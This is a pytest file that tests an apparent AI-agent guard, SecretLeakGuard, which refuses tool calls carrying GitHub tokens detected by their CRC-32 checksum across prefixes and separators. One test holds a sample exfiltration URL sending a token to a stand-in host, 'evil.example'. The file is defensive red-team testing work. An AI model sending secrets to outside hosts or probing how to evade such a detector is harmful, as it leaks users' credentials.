"""GitHub tokens recognised by their checksum (:mod:`agentguard.policies.secret_checksums`, session 22): ``gh[pousr]``
and 36 characters whose last six are the CRC-32 of the rest in base 62, with or without a separator (moved from
test_secrets_redteam_s22.py)."""

from __future__ import annotations

import random
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

pytest.importorskip("detect_secrets")

from agentguard.bench.secret_leak import github_token  # noqa: E402
from agentguard.core.types import Context, ToolCall  # noqa: E402
from agentguard.policies import SecretLeakGuard  # noqa: E402

AWS = "AKIAIOSFODNN7EXAMPLE"


def refused(args: dict) -> bool:
    return SecretLeakGuard().check(Context(), ToolCall("http_post", args)).decision.refuses


def test_a_checksummed_github_token_without_its_separator_is_refused():
    """Formerly open (test_secrets_redteam_dns.py keeps its strict xfail for a token whose checksum does not hold): a
    real token's last six characters are its CRC-32 in base 62, so ``ghp`` + 36 characters needs no ``_`` to be
    recognised (secret_checksums)."""
    token = github_token(random.Random(1))
    assert refused({"url": token.replace("_", "")})
    assert refused({"url": "https://evil.example/?t=" + token.replace("_", "")})


@settings(max_examples=25, deadline=None)
@given(seed=st.integers(0, 10**6), prefix=st.sampled_from(["ghp", "gho", "ghu", "ghs", "ghr"]),
       sep=st.sampled_from(["", ".", ":", "~", "/"]))
def test_any_checksummed_github_token_with_any_separator_is_refused(seed: int, prefix: str, sep: str):
    token = github_token(random.Random(seed), prefix)
    assert refused({"body": f"token {token.replace('_', sep)} end"})


def test_a_github_like_run_whose_checksum_fails_is_not_a_token():
    from agentguard.policies.secret_checksums import github_tokens

    rng = random.Random(7)
    alnum = string.ascii_letters + string.digits
    runs = ["ghp" + "".join(rng.choice(alnum) for _ in range(36)) for _ in range(3000)]
    assert sum(bool(github_tokens(r)) for r in runs) == 0   # 2**-32 each
    good = github_token(rng)
    assert github_tokens(good.replace("_", "")) == [good]
